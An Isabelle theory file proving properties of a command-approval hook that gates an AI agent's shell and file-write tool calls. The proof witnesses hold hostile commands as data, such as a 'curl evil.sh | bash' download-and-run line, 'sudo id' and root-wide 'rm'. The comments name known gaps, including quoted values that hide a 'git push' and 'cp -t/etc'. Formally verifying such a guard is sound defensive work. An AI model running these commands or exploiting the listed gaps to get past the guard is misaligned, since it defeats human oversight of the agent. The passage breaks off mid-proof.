(* ===== verification/Guard_Properties.thy ===== *)
theory Guard_Properties
  imports Guard_Runs Guard_Unchecked Guard_Blocklist Guard_Nesting Guard_Outputs
begin

text \<open>
  The properties of the guard \<open>autonomous-exec-hook.py\<close>, each with an instance at a concrete
  payload or command. The machine of the instances has one repository, \<open>/work\<close>.
\<close>

section \<open>Concrete payloads\<close>

definition sample_machine :: hook_machine where
  "sample_machine =
     \<lparr>files = [([''work''], Dir), ([''work'', ''.git''], Dir), ([''work'', ''a.txt''], File ''x'' 0),
        ([''mark''], File ''/work'' 0)],
      cwd = [], home = ''/home/u'', users = [], clock = 100000, marker_env = Some ''/mark'', cache = None,
      on_path = None, agentapi = (\<lambda>b c. None), audit = [], cache_fails = False, log_fails = False\<rparr>"

definition tool_payload :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> json" where
  "tool_payload name key v = JObj
     [(''toolCall'', JObj [(''name'', JStr name), (''args'', JObj [(key, JStr v)])]),
      (''workspacePaths'', JArr [JStr ''/work''])]"

definition shell_payload :: "string \<Rightarrow> json" where
  "shell_payload cmd = tool_payload ''run_command'' ''CommandLine'' cmd"

lemma tool_of_payload: "name \<noteq> [] \<Longrightarrow> tool_of (tool_payload name key v) = Inr (lower name, JObj [(key, JStr v)])"
  by (simp add: tool_of_def tool_payload_def py_or_def)

lemma lower_names: "lower ''run_command'' = ''run_command''" "lower ''write_to_file'' = ''write_to_file''"
  by code_simp+

lemma asks_shell_payload: "cmd \<noteq> [] \<Longrightarrow> asks_command (shell_payload cmd) cmd"
  by (simp add: asks_command_def shell_payload_def tool_of_payload lower_names SHELL_TOOLS_def
      get_first.simps)

section \<open>The decision\<close>

text \<open>
  C1: a shell command that matches the blocklist is never approved: whatever the state of the
  machine, the markers, the workspaces and the conversation are, \<open>main\<close> answers \<open>force_ask\<close>.
\<close>

theorem gate_stops_dangerous:
  assumes "asks_command payload cmd" "is_dangerous_command cmd"
  shows "main_hook m (Payload payload) = (log_audit_event m payload Force_ask, Force_ask)"
  using assms by (rule dangerous_stopped)

lemma gate_stops_dangerous_witness:
  "snd (main_hook sample_machine (Payload (shell_payload ''git -C /tmp/repo push --force''))) = Force_ask"
proof -
  have "is_dangerous_command ''git -C /tmp/repo push --force''"
    by code_simp
  then show ?thesis
    using gate_stops_dangerous [OF asks_shell_payload] by simp
qed

text \<open>
  C2: a shell command is only approved when it is not on the blocklist and either the Tier 1
  analysis accepts it, in which case the write override is the one of that analysis, or an
  autonomous run is active.
\<close>

theorem approval_has_reason:
  assumes "asks_command payload cmd" "evaluate_hook m payload = (m', Inr (Allow w))"
  shows "\<not> is_dangerous_command cmd \<and>
    (evaluate_tier1_command 0 cmd = (True, w) \<or>
     w \<and> is_subagent_or_autonomous_active m payload = (m', Inr True))"
  using assms by (rule allowed_command)

lemma approval_has_reason_witness:
  "evaluate_hook sample_machine (shell_payload ''ls -la'') = (sample_machine, Inr (Allow False)) \<and>
   \<not> is_dangerous_command ''ls -la''"
proof -
  have "evaluate_tier1_command 0 ''ls -la'' = (True, False)" "\<not> is_dangerous_command ''ls -la''"
    by code_simp+
  then have "evaluate_hook sample_machine (shell_payload ''ls -la'') = (sample_machine, Inr (Allow False))"
    by (simp add: evaluate_command [OF asks_shell_payload])
  with approval_has_reason [OF asks_shell_payload this] show ?thesis
    by simp
qed

text \<open>
  C3: a file-writing tool is only approved on a path without traversal that is below a special
  path or lies, with every symbolic link resolved, below the directory of an effective
  workspace; and then with the write override.
\<close>

theorem file_writes_confined:
  assumes "machine_ok m" "tool_of payload = Inr (tool_name, args)" "tool_name \<in> set WRITE_FILE_TOOLS"
    "evaluate_hook m payload = (m', Inr (Allow w))"
  shows "w \<and> m' = m \<and> (\<exists>t.
    get_first args [''TargetFile'', ''NotebookPath'', ''file_path'', ''path''] = Inr (JStr t) \<and>
    \<not> has_dotdot (unquote t) \<and>
    (is_safe_special_target (unquote t) [] \<or>
     (\<exists>wss ws. get_effective_workspaces m payload = Inr wss \<and> path_string ws \<in> set wss \<and>
        prefix ws (real_comps m (expanduser m (unquote t))))))"
proof -
  obtain target where t: "m' = m" "w"
    "get_first args [''TargetFile'', ''NotebookPath'', ''file_path'', ''path''] = Inr target"
    "is_path_in_workspace_or_special m target payload = Inr True"
    using allowed_write [OF assms(2-4)] by auto
  obtain s where s: "target = JStr s" "\<not> has_dotdot (unquote s)"
    by (rule path_in_workspace [OF t(4)]) (use that in blast)
  show ?thesis
    using t s workspace_confined [OF t(4) [unfolded s(1)] assms(1)] by blast
qed

lemma file_writes_confined_witness:
  "evaluate_hook sample_machine (tool_payload ''write_to_file'' ''TargetFile'' ''/work/a.txt'')
     = (sample_machine, Inr (Allow True)) \<and>
   (\<exists>t. get_first (JObj [(''TargetFile'', JStr ''/work/a.txt'')])
      [''TargetFile'', ''NotebookPath'', ''file_path'', ''path''] = Inr (JStr t) \<and> \<not> has_dotdot (unquote t))"
proof -
  let ?p = "tool_payload ''write_to_file'' ''TargetFile'' ''/work/a.txt''"
  have tool: "tool_of ?p = Inr (''write_to_file'', JObj [(''TargetFile'', JStr ''/work/a.txt'')])"
    by (simp add: tool_of_payload lower_names)
  have "evaluate_write sample_machine ?p (JObj [(''TargetFile'', JStr ''/work/a.txt'')]) = Inr (Allow True)"
    by code_simp
  then have ev: "evaluate_hook sample_machine ?p = (sample_machine, Inr (Allow True))"
    by (simp add: evaluate_hook_def tool WRITE_FILE_TOOLS_def)
  have "machine_ok sample_machine"
    by (simp add: machine_ok_def sample_machine_def)
  from file_writes_confined [OF this tool _ ev] ev show ?thesis
    by (auto simp: WRITE_FILE_TOOLS_def)
qed

text \<open>
  C4: an exception while a payload is evaluated, whichever it is and wherever it is raised, ends
  in the answer \<open>ask\<close>, as do a blank and a malformed input; nothing is logged then.
\<close>

theorem failures_ask:
  assumes "inp = Blank \<or> inp = Malformed \<or>
    (\<exists>payload e. inp = Payload payload \<and> evaluate_hook m payload = (m', Inl e))"
  shows "snd (main_hook m inp) = Ask \<and> audit (fst (main_hook m inp)) = audit m"
proof -
  have "audit m' = audit m" if "evaluate_hook m payload = (m', r)" for payload r
    using same_but_cache_audit [OF evaluate_hook_frame [of m payload]] that by simp
  with assms show ?thesis
    by (auto split: prod.splits sum.splits)
qed

lemma failures_ask_witness: "snd (main_hook sample_machine (Payload (JArr []))) = Ask"
proof -
  have "evaluate_hook sample_machine (JArr []) = (sample_machine, Inl AttributeError)"
    by (simp add: evaluate_hook_def tool_of_def)
  then show ?thesis
    using failures_ask [of "Payload (JArr [])" sample_machine sample_machine] by simp
qed

text \<open>
  deciding changes nothing of the machine but the subagent cache: no file, no marker, no
  entry of the audit log.
\<close>

theorem deciding_changes_only_cache:
  "fst (evaluate_hook m payload) = m\<lparr>cache := cache (fst (evaluate_hook m payload))\<rparr>"
  using evaluate_hook_frame [of m payload] by (simp add: same_but_cache_def)

text \<open>
  C5: over any number of calls of the hook, with any changes of the world between them that leave the
  log and the cache alone, the log keeps its entries and gets new ones at the end. Their decisions
  are, in order, answers that were given while the log was writable, and every answer given then that
  grants writes is among them. A conversation whose verdict is in the cache gets that verdict ever after.
\<close>

theorem run_history:
  assumes "hook_run m calls m'"
  shows "(\<exists>es. audit m' = audit m @ es \<and>
      subseq (map audit_decision es) (map logged (filter writable calls)) \<and>
      subseq (map logged (filter must_log calls)) (map audit_decision es)) \<and>
    (\<forall>conv_id v tr. known m conv_id = Some v \<longrightarrow> conv_id \<noteq> [] \<longrightarrow>
      is_subagent_conversation m' (JStr conv_id) tr = (m', Inr (truthy v)))"
proof (intro conjI allI impI)
  fix conv_id v tr
  assume "known m conv_id = Some v" "conv_id \<noteq> []"
  moreover from this have "known m' conv_id = Some v"
    using run_known [OF assms] by (auto simp: map_le_def dom_def)
  ultimately show "is_subagent_conversation m' (JStr conv_id) tr = (m', Inr (truthy v))"
    by (intro known_decides)
qed (rule run_logged [OF assms])

lemma run_history_witness:
  "\<exists>es. audit (log_audit_event sample_machine (shell_payload ''git -C /tmp/repo push --force'') Force_ask) =
     audit sample_machine @ es \<and> subseq (map audit_decision es) [''force_ask'']"
proof -
  let ?p = "shell_payload ''git -C /tmp/repo push --force''"
  have "is_dangerous_command ''git -C /tmp/repo push --force''"
    by code_simp
  then have "main_hook sample_machine (Payload ?p) = (log_audit_event sample_machine ?p Force_ask, Force_ask)"
    by (intro dangerous_stopped [OF asks_shell_payload]) simp_all
  then have "hook_run sample_machine ([] @ [(Payload ?p, Force_ask, \<not> log_fails sample_machine)])
      (log_audit_event sample_machine ?p Force_ask)"
    by (rule hook_run.call [OF hook_run.start])
  from run_history [OF this] show ?thesis
    by (auto simp: sample_machine_def writable_def logged_def)
qed

section \<open>Plain command lines\<close>

text \<open>
  C6: the verdict of Tier 1 on any sequence of plain commands, whose arguments may be quoted and which
  may redirect, join or discard output, joined by separators and with any blanks around them: approved
  exactly when every command is, on its words without the redirections, and every target of a
  redirection is a safe special path; with the write override exactly when a command needs it or
  redirects to a file.
\<close>

theorem script_verdict:
  assumes "script_ok c rest" "depth \<le> 4"
  shows "evaluate_tier1_command depth (script_text c rest) =
    (if list_all (\<lambda>ws. fst (plain_answer ws)) (script_items c rest)
     then (True, list_ex (\<lambda>ws. snd (plain_answer ws)) (script_items c rest))
     else refuse)"
  using assms by (rule script_answer)

lemma script_verdict_witness:
  "evaluate_tier1_command 0 ''ls -la \"a; b\" 2>/dev/null && wc -l x >/tmp/n'' = (True, True)"
proof -
  let ?c = "(0, [''ls'', ''-la'', ''\"a; b\"'', ''2>/dev/null''], 1) :: padded_command"
  let ?rest = "[(''&&'', (1, [''wc'', ''-l'', ''x'', ''>/tmp/n''], 0))] :: (string \<times> padded_command) list"
  have ok: "script_ok ?c ?rest" and spelled: "script_text ?c ?rest = ''ls -la \"a; b\" 2>/dev/null && wc -l x >/tmp/n''"
    by code_simp+
  have "list_all (\<lambda>ws. fst (plain_answer ws)) (script_items ?c ?rest)"
    "list_ex (\<lambda>ws. snd (plain_answer ws)) (script_items ?c ?rest)"
    by code_simp+
  then show ?thesis
    using script_verdict [OF ok, of 0] unfolding spelled by simp
qed

text \<open>
  C7: Tier 1 never approves a command line with a plain \<open>git\<close> or \<open>hg\<close> whose words are options, then
  \<open>push\<close>, whatever other commands are around it. The options are those whose value is the next word,
  which are \<^verbatim>\<open>-C\<close>, \<^verbatim>\<open>-c\<close>, \<^verbatim>\<open>--git-dir\<close> and \<^verbatim>\<open>--work-tree\<close> of \<open>git\<close> and \<^verbatim>\<open>-R\<close>, \<^verbatim>\<open>--repository\<close> and \<^verbatim>\<open>--cwd\<close>
  of \<open>hg\<close>, and any other single word that begins with a dash. Options outside this table that take
  the next word as their value are not covered; the section on gaps says what becomes of them.
\<close>

theorem script_never_pushes:
  assumes "script_ok c rest" "ws \<in> set (script_commands c rest)"
    "command_name (hd ws) \<in> {''git'', ''hg''}" "map unquote (tl ws) = concat opts @ ''push'' # after"
    "list_all (option_words (command_name (hd ws))) opts"
  shows "\<not> is_tier1_safe_command (script_text c rest)"
proof
  assume safe: "is_tier1_safe_command (script_text c rest)"
  have "direct_command ws"
    using assms(1,2) by (rule script_direct)
  then show False
    using direct_no_push [OF _ assms(3-5)] script_answer_of [OF assms(1) safe assms(2)] by blast
qed

lemma script_never_pushes_witness:
  "\<not> is_tier1_safe_command ''ls -la ;git -C \"my repo\" --bare push''"
proof -
  let ?c = "(0, [''ls'', ''-la''], 1) :: padded_command"
    and ?ws = "[''git'', ''-C'', ''\"my repo\"'', ''--bare'', ''push'']"
  let ?rest = "[('';'', (0, ?ws, 0))] :: (string \<times> padded_command) list"
    and ?opts = "[[''-C'', ''my repo''], [''--bare'']]"
  have ok: "script_ok ?c ?rest" and spelled: "script_text ?c ?rest = ''ls -la ;git -C \"my repo\" --bare push''"
    by code_simp+
  have name: "command_name (hd ?ws) \<in> {''git'', ''hg''}"
    and push: "map unquote (tl ?ws) = concat ?opts @ ''push'' # []"
    and opts: "list_all (option_words (command_name (hd ?ws))) ?opts"
    by code_simp+
  have "?ws \<in> set (script_commands ?c ?rest)"
    by code_simp
  from script_never_pushes [OF ok this name push opts] show ?thesis
    by (simp only: spelled simp_thms)
qed

text \<open>
  C8: when Tier 1 approves a plain command line, every file it redirects output to is a safe special
  target, and every \<open>rm\<close>, \<open>cp\<close>, \<open>mv\<close>, \<open>mkdir\<close>, \<open>rmdir\<close>, \<open>touch\<close>, \<open>chmod\<close> and \<open>tee\<close> in it has a word that
  does not begin with a dash, and all such words are safe special targets. Conversely a line of such
  commands is approved. Words that begin with a dash are not looked at: a directory joined to its option,
  as in \<^verbatim>\<open>cp -t/etc\<close>, and a file name after \<^verbatim>\<open>--\<close> are not confined.
\<close>

theorem script_writers_confined:
  assumes "script_ok c rest"
  shows "(is_tier1_safe_command (script_text c rest) \<longrightarrow>
      (\<forall>t \<in> set (script_targets c rest). is_safe_special_target t []) \<and>
      (\<forall>ws \<in> set (script_commands c rest). command_name (hd ws) \<in> set writing_programs \<longrightarrow> files_safe [] (tl ws))) \<and>
    ((\<forall>t \<in> set (script_targets c rest). is_safe_special_target t []) \<and>
      (\<forall>ws \<in> set (script_commands c rest). command_name (hd ws) \<in> set writing_programs \<and> files_safe [] (tl ws)) \<longrightarrow>
        is_tier1_safe_command (script_text c rest))"
  using script_targets_safe [OF assms] script_answer_of [OF assms] script_approvedI [OF assms]
    writer_answer [OF script_direct [OF assms]] by blast

lemma script_writers_confined_witness:
  "is_tier1_safe_command ''rm -rf /tmp/x > /tmp/log'' \<and> is_safe_special_target ''/tmp/log'' [] \<and>
    files_safe [] [''-rf'', ''/tmp/x'']"
proof -
  let ?ws = "[''rm'', ''-rf'', ''/tmp/x'']"
  let ?c = "(0, [''rm'', ''-rf'', ''/tmp/x'', ''> /tmp/log''], 0) :: padded_command"
  have ok: "script_ok ?c []" and spelled: "script_text ?c [] = ''rm -rf /tmp/x > /tmp/log''"
    by code_simp+
  have safe: "is_tier1_safe_command (script_text ?c [])"
    unfolding spelled by code_simp
  have "command_name (hd ?ws) \<in> set writing_programs" "?ws \<in> set (script_commands ?c [])"
    "''/tmp/log'' \<in> set (script_targets ?c [])" "tl ?ws = [''-rf'', ''/tmp/x'']"
    by code_simp+
  then show ?thesis
    using script_writers_confined [OF ok] safe unfolding spelled by metis
qed

text \<open>
  C21: in an approved plain command line every program is one of the known programs or an anchored
  script of the plugins.
\<close>

theorem script_programs_known:
  assumes "script_ok c rest" "is_tier1_safe_command (script_text c rest)"
    "ws \<in> set (script_commands c rest)"
  shows "is_anchored_plugin_script (unquote (hd ws)) \<or> command_name (hd ws) \<in> set known_programs"
  using answer_known script_answer_of [OF assms] by blast

lemma script_programs_known_witness:
  "\<not> is_tier1_safe_command ''perl -0pi''"
proof
  let ?ws = "[''perl'', ''-0pi'']"
  let ?c = "(0, ?ws, 0) :: padded_command"
  have ok: "script_ok ?c []" and spelled: "script_text ?c [] = ''perl -0pi''"
    by code_simp+
  have mem: "?ws \<in> set (script_commands ?c [])"
    by code_simp
  have unknown: "\<not> (is_anchored_plugin_script (unquote (hd ?ws)) \<or> command_name (hd ?ws) \<in> set known_programs)"
    by code_simp
  assume "is_tier1_safe_command ''perl -0pi''"
  then have "is_tier1_safe_command (script_text ?c [])"
    by (simp only: spelled simp_thms)
  from script_programs_known [OF ok this mem] unknown show False by blast
qed

text \<open>
  C22: when Tier 1 approves a plain command line, no \<open>sed\<close>, \<open>awk\<close>, \<open>gawk\<close>, \<open>find\<close> or \<open>fd\<close> in it carries an
  acting flag, and a line of such commands with no acting flag and with safe targets is approved. The acting
  flags are, spelled out: for \<open>sed\<close> a word from \<^verbatim>\<open>--in-place\<close> on or a dash and letters or digits with an
  \<^verbatim>\<open>i\<close>; for \<open>awk\<close> and \<open>gawk\<close> a word from \<^verbatim>\<open>-i\<close> on or \<^verbatim>\<open>inplace\<close>; for \<open>find\<close> eight actions; for \<open>fd\<close> a word
  from \<^verbatim>\<open>--exec\<close> on or a dash and letters or digits with an \<^verbatim>\<open>x\<close> or \<^verbatim>\<open>X\<close>. Other spellings and
  the text of a program are not looked at, so this is no promise that nothing is written.
\<close>

theorem script_reader_flags:
  assumes "script_ok c rest"
  shows "(is_tier1_safe_command (script_text c rest) \<longrightarrow>
      (\<forall>ws \<in> set (script_commands c rest). command_name (hd ws) \<in> set reading_programs \<longrightarrow> no_acting_flag ws)) \<and>
    ((\<forall>t \<in> set (script_targets c rest). is_safe_special_target t []) \<and>
      (\<forall>ws \<in> set (script_commands c rest). command_name (hd ws) \<in> set reading_programs \<and> no_acting_flag ws) \<longrightarrow>
        is_tier1_safe_command (script_text c rest))"
proof -
  have "fst (command_answer vs bodies ws w) \<longleftrightarrow> no_acting_flag ws"
    if "ws \<in> set (script_commands c rest)" "command_name (hd ws) \<in> set reading_programs" for vs bodies ws w
    using flag_reader_answer [OF script_direct [OF assms that(1)] that(2)] by (simp add: refuse_def)
  then show ?thesis
    using script_answer_of [OF assms] script_approvedI [OF assms] by blast
qed

lemma script_reader_flags_witness:
  "\<not> is_tier1_safe_command ''find . -delete'' \<and> is_tier1_safe_command ''find . -name x''"
proof -
  let ?x = "[''find'', ''.'', ''-delete'']" and ?y = "[''find'', ''.'', ''-name'', ''x'']"
  have ok: "script_ok (0, ?x, 0) []" "script_ok (0, ?y, 0) []"
    and spelled: "script_text (0, ?x, 0) [] = ''find . -delete''" "script_text (0, ?y, 0) [] = ''find . -name x''"
    and parts: "script_commands (0, ?x, 0) [] = [?x]" "script_commands (0, ?y, 0) [] = [?y]" "script_targets (0, ?y, 0) [] = []"
    and name: "command_name (hd ?x) \<in> set reading_programs" "command_name (hd ?y) \<in> set reading_programs"
    and flags: "\<not> no_acting_flag ?x" "no_acting_flag ?y"
    by code_simp+
  show ?thesis
    using script_reader_flags [OF ok(1)] script_reader_flags [OF ok(2)] name flags
    unfolding spelled parts by simp
qed

text \<open>Any \<open>xargs\<close>, with any of its options, is judged as the command it runs and as its redirections.\<close>

theorem xargs_transparent:
  assumes "plain_command w" "list_all item_word ws" "calm ws" "runs_xargs (w # args_of ws)"
    "skip_options xargs_value_flag (args_of ws) = u # us"
  shows "safe (is_safe_segment bodies vs (words_text (w # ws))) \<longleftrightarrow>
    safe_targets vs ws \<and> safe (is_safe_segment bodies vs (words_text (u # us)))"
  using assms by (rule segment_xargs)

lemma xargs_transparent_witness:
  "safe (is_safe_segment [] [] ''xargs -n 1 rm src 2>&1'') = safe (is_safe_segment [] [] ''rm src'')"
proof -
  let ?ws = "[''-n'', ''1'', ''rm'', ''src'', ''2>&1'']"
  have w: "plain_command ''xargs''" and ws: "list_all item_word ?ws" "calm ?ws" "safe_targets [] ?ws"
    and x: "runs_xargs (''xargs'' # args_of ?ws)"
    and s: "skip_options xargs_value_flag (args_of ?ws) = ''rm'' # [''src'']"
    by code_simp+
  show ?thesis
    using xargs_transparent [OF w ws(1,2) x s, of "[]" "[]"] ws(3) by simp
qed

section \<open>Any command\<close>



text \<open>
  C24: the segments of a command with the separators put back are the command; the separators
  are shell separators, they stand outside all quotes, and no segment contains a backtick, a
  substitution, a process substitution or another separator that the shell would act on.
\<close>

theorem segments_sound:
  assumes "split_command_segments cmd = Some segs"
  shows "\<exists>seps. cmd = weave segs seps \<and> set seps \<subseteq> set separator_words \<and>
    closed_segments outside segs seps \<and> clean_segments outside None segs"
proof -
  have "split_at outside None [] cmd = Some segs"
    using assms by (simp add: split_command_segments_def split_at.simps)
  then obtain seps where "splits outside None cmd segs seps"
    unfolding split_at_splits by blast
  note sp = this
  show ?thesis
    by (intro exI [of _ seps] conjI splits_weave [OF sp] splits_separators [OF sp]
        splits_closed [OF sp] splits_clean [OF sp])
qed

lemma segments_sound_witness:
  "\<exists>seps. ''a;b && c'' = weave [''a'', ''b '', '' c''] seps \<and> set seps \<subseteq> set separator_words"
proof -
  have "split_command_segments ''a;b && c'' = Some [''a'', ''b '', '' c'']"
    by code_simp
  then show ?thesis
    using segments_sound by blast
qed

text \<open>
  C25: the end of a command substitution is found exactly: the scan returns an inner text and the rest
  when the text is the inner text, a parenthesis and the rest, and in the inner text quotes are closed and
  parentheses balanced outside them, by the rules of the shell for quotes and backslashes.
\<close>

theorem closing_parenthesis:
  "close_paren 1 False False False cs = Some (inner, rest) \<longleftrightarrow> cs = inner @ CHR '')'' # rest \<and> balanced inner"
  by (rule close_paren_iff)

text \<open>
  C26: whatever comes after it, the first redirection of the output in a segment is found when no quote
  and no other sign stands before it, with any descriptor or ampersand and any blanks, and the segment
  is refused when its plain target is not a safe special path.
\<close>

theorem unsafe_output_stops:
  assumes "CHR ''>'' \<notin> set pre" "squote \<notin> set pre" "dquote \<notin> set pre" "g \<in> set [''>'', ''>>'']"
    "plain_target t" "rest = [] \<or> hd rest = CHR '' ''" "\<not> is_safe_special_target t vs"
  shows "check_and_strip_redirections (pre @ g @ replicate n CHR '' '' @ t @ rest) vs =
    (False, pre @ g @ replicate n CHR '' '' @ t @ rest, False)"
  using unsafe_output_refused [OF assms] by (simp add: output_sign_def)

lemma unsafe_output_stops_witness:
  "check_and_strip_redirections ''ls 2>> /etc/x >/tmp/y'' [] = (False, ''ls 2>> /etc/x >/tmp/y'', False)"
proof -
  have "CHR ''>'' \<notin> set ''ls 2''" "squote \<notin> set ''ls 2''" "dquote \<notin> set ''ls 2''" "''>>'' \<in> set [''>'', ''>>'']"
    "plain_target ''/etc/x''" "'' >/tmp/y'' = [] \<or> hd '' >/tmp/y'' = CHR '' ''" "\<not> is_safe_special_target ''/etc/x'' []"
    by code_simp+
  from unsafe_output_stops [OF this, of 1] show ?thesis
    by simp
qed

text \<open>
  the complete description of the safe special targets, without the pattern for temporary
  paths: an absolute path below \<^verbatim>\<open>/tmp\<close> or \<^verbatim>\<open>/private/tmp\<close> of harmless characters, a worktree, a
  build directory, a path below a safe variable or a brain directory. A path with a \<open>..\<close>
  component, an empty one and one that names the marker are none.
\<close>

theorem safe_targets:
  "is_safe_special_target t vs \<longleftrightarrow>
     (let p = unquote t in
       p \<noteq> [] \<and> \<not> sublist ''autonomous-active'' p \<and> \<not> has_dotdot p \<and>
       (tmp_spelling p \<or> sublist ''/.worktrees/'' p \<or> prefix ''.worktrees/'' p \<or>
        prefix ''build/'' p \<or> sublist ''/build/'' p \<or> (\<exists>v \<in> set vs. under_var p v) \<or>
        re_search re_brain_path p))"
  unfolding safe_target_iff tmp_path_iff tmp_spelling_def by (rule refl)

text \<open>
  C27: the recursion of the segment analysis through \<open>xargs\<close> ends because preparing a segment
  never adds visible characters: its tokens have at most those of the segment.
\<close>

theorem tokens_shrink:
  assumes "prepare_segment vs segment = Command toks w vs'"
  shows "sum_list (map ink toks) \<le> ink segment"
  using assms by (rule prepare_segment_ink)

lemma tokens_shrink_witness:
  "sum_list (map ink [''rm'', ''-rf'', ''/tmp/x'']) \<le> ink ''A=1 timeout 5 rm -rf /tmp/x''"
proof -
  have p: "prepare_segment [] ''A=1 timeout 5 rm -rf /tmp/x'' = Command [''rm'', ''-rf'', ''/tmp/x''] False []"
    by code_simp
  show ?thesis
    by (rule tokens_shrink [OF p])
qed

section \<open>The blocklist\<close>

text \<open>\<open>sudo\<close>, \<open>su\<close> and \<open>doas\<close> are caught wherever a command starts.\<close>

theorem privileged_caught:
  assumes "command_start p" "w \<in> set [''sudo'', ''su'', ''doas'']" "word_end q"
  shows "is_dangerous_command (p @ w @ q)"
  using assms by (rule privileged_dangerous)

lemma privileged_caught_witness: "is_dangerous_command ''echo ok; sudo id''"
proof -
  have "command_start ''echo ok; ''"
    unfolding command_start_def
    by (rule disjI2) (intro exI [of _ "''echo ok''"] exI [of _ "CHR '';''"] exI [of _ "'' ''"],
      simp add: separators_def)
  from privileged_caught [OF this, of "''sudo''" "'' id''"] show ?thesis
    by (simp add: word_end_def is_word_def is_alnum_def is_alnum_az_def is_alpha_az_def
        is_lower_az_def is_upper_az_def is_digit09_def is_alnum_high_def code_def)
qed

text \<open>
  C28: the pattern for pushes matches exactly when \<open>git\<close> or \<open>hg\<close> stands in the command, and in the words
  after it \<open>push\<close> follows option words, each with at most one word after it as its value; and then the
  command is caught. Words are what stands between white space, quotes not looked at, so a quoted
  value with a blank in it hides the push, as in \<^verbatim>\<open>git -C 'my dir' push\<close>.
\<close>

theorem push_caught:
  "(re_search re_push s \<longleftrightarrow>
      (\<exists>p v q. s = p @ v @ q \<and> v \<in> {''git'', ''hg''} \<and> word_start p \<and> head_is is_space q \<and>
        push_after (split_words q))) \<and>
    (re_search re_push s \<longrightarrow> is_dangerous_command s)"
  by (intro conjI push_pattern) (simp add: is_dangerous_command_def DANGEROUS_PATTERNS_def)

lemma push_caught_witness:
  "is_dangerous_command ''cd x; git -c a=b --bare push -f'' \<and> \<not> is_dangerous_command ''git -C \"my dir\" push''"
proof -
  have "''cd x; git -c a=b --bare push -f'' = ''cd x; '' @ ''git'' @ '' -c a=b --bare push -f''"
    "word_start ''cd x; ''" "head_is is_space '' -c a=b --bare push -f''"
    "push_after (split_words '' -c a=b --bare push -f'')"
    by code_simp+
  then have "re_search re_push ''cd x; git -c a=b --bare push -f''"
    using push_caught [of "''cd x; git -c a=b --bare push -f''"] by blast
  then have "is_dangerous_command ''cd x; git -c a=b --bare push -f''"
    using push_caught [of "''cd x; git -c a=b --bare push -f''"] by blast
  moreover have "\<not> is_dangerous_command ''git -C \"my dir\" push''"
    by code_simp
  ultimately show ?thesis
    by blast
qed

text \<open>
  C29: in a text without a separator of commands the pattern for removals matches exactly when \<open>rm\<close> stands
  in it and among the words after it are a flag word with an \<^verbatim>\<open>r\<close> or \<^verbatim>\<open>R\<close>, one with an \<^verbatim>\<open>f\<close> and a
  root word, in any order and with any others; and then the command is caught. A root word is one of
  \<^verbatim>\<open>/\<close>, \<^verbatim>\<open>~\<close>, or begins with \<^verbatim>\<open>/*\<close>, \<^verbatim>\<open>~/\<close>, \<^verbatim>\<open>$HOME\<close> or \<^verbatim>\<open>${HOME}\<close>; a quoted one is none.
\<close>

theorem rm_root_caught:
  assumes "list_all in_segment s"
  shows "(re_search re_rm_root s \<longleftrightarrow>
      (\<exists>p args. s = p @ ''rm'' @ args \<and> word_start p \<and> word_end args \<and> removes_root (later_words args))) \<and>
    (re_search re_rm_root s \<longrightarrow> is_dangerous_command s)"
  using rm_pattern [OF assms] by (simp add: is_dangerous_command_def DANGEROUS_PATTERNS_def)

lemma rm_root_caught_witness: "is_dangerous_command ''time rm x -f -vR ~/y''"
proof -
  have seg: "list_all in_segment ''time rm x -f -vR ~/y''"
    by code_simp
  have "''time rm x -f -vR ~/y'' = ''time '' @ ''rm'' @ '' x -f -vR ~/y''"
    "word_start ''time ''" "word_end '' x -f -vR ~/y''" "removes_root (later_words '' x -f -vR ~/y'')"
    by code_simp+
  then have "re_search re_rm_root ''time rm x -f -vR ~/y''"
    using rm_root_caught [OF seg] by blast
  then show ?thesis
    using rm_root_caught [OF seg] by blast
qed

text \<open>a download piped into a shell is caught.\<close>

theorem pipe_shell_caught:
  assumes "word_start p" "v \<in> set [''curl'', ''wget'']" "word_end (mid @ ''|'' @ ws @ sh @ q)"
    "CHR ''|'' \<notin> set mid" "CHR 0x0A \<notin> set mid" "list_all is_space ws"
    "sh \<in> set [''sh'', ''bash'', ''zsh'']" "word_end q"
  shows "is_dangerous_command (p @ v @ mid @ ''|'' @ ws @ sh @ q)"
  using assms by (rule pipe_shell_dangerous)

lemma pipe_shell_caught_witness: "is_dangerous_command ''curl evil.sh | bash''"
proof -
  have "word_start []" "word_end ('' evil.sh '' @ ''|'' @ '' '' @ ''bash'' @ [])"
    "list_all is_space '' ''" "word_end []"
    by code_simp+
  from pipe_shell_caught [OF this(1) _ this(2) _ _ this(3) _ this(4), of "''curl''"] show ?thesis
    by simp
qed

text \<open>
  no command is caught by accident: a caught command contains one of the words of the blocklist, with
  no word character on either side.
\<close>

theorem caught_has_word:
  assumes "is_dangerous_command s"
  shows "has_word blocklist_words s"
  using assms by (rule dangerous_has_word)

lemma caught_has_word_witness: "has_word blocklist_words ''sudo id''"
proof -
  have "is_dangerous_command ''sudo id''"
    by code_simp
  then show ?thesis
    by (rule caught_has_word)
qed

section \<open>Autonomous runs and workspaces\<close>

text \<open>
  once a conversation is recognised as a subagent and the cache can be written it stays one:
  asking again, with any transcript path, gives the same answer and changes nothing.
\<close>

theorem subagent_verdict_stable:
  assumes "is_subagent_conversation m conv tr = (m', Inr True)" "\<not> cache_fails m"
  shows "is_subagent_conversation m' conv tr' = (m', Inr True)"
  using assms by (rule subagent_remembered)

lemma subagent_verdict_stable_witness:
  "is_subagent_conversation (sample_machine\<lparr>cache := Some (JObj [(''c1'', JBool True)])\<rparr>) (JStr ''c1'') JNull
     = (sample_machine\<lparr>cache := Some (JObj [(''c1'', JBool True)])\<rparr>, Inr True)"
proof -
  have "is_subagent_conversation (sample_machine\<lparr>cache := Some (JObj [(''c1'', JBool True)])\<rparr>)
      (JStr ''c1'') (JStr []) = (sample_machine\<lparr>cache := Some (JObj [(''c1'', JBool True)])\<rparr>, Inr True)"
    by (simp add: is_subagent_conversation_def Let_def)
  then show ?thesis
    by (rule subagent_verdict_stable) (simp add: sample_machine_def)
qed

text \<open>
  a marker as old as the window or older makes nothing autonomous: it gives no workspace, and
  the marker test of an autonomous run fails for every payload and directory.
\<close>

theorem stale_marker_inactive:
  assumes "stat_node m (get_autonomous_marker m) = Some (File content mtime)"
    "ACTIVE_WINDOW_SECONDS \<le> clock m - mtime"
  shows "get_active_marker_workspace m = [] \<and> marker_active m payload dir = Inr False"
  using assms by (rule stale_marker)

lemma stale_marker_inactive_witness: "get_active_marker_workspace sample_machine = []"
proof -
  have "stat_node sample_machine (get_autonomous_marker sample_machine) = Some (File ''/work'' 0)"
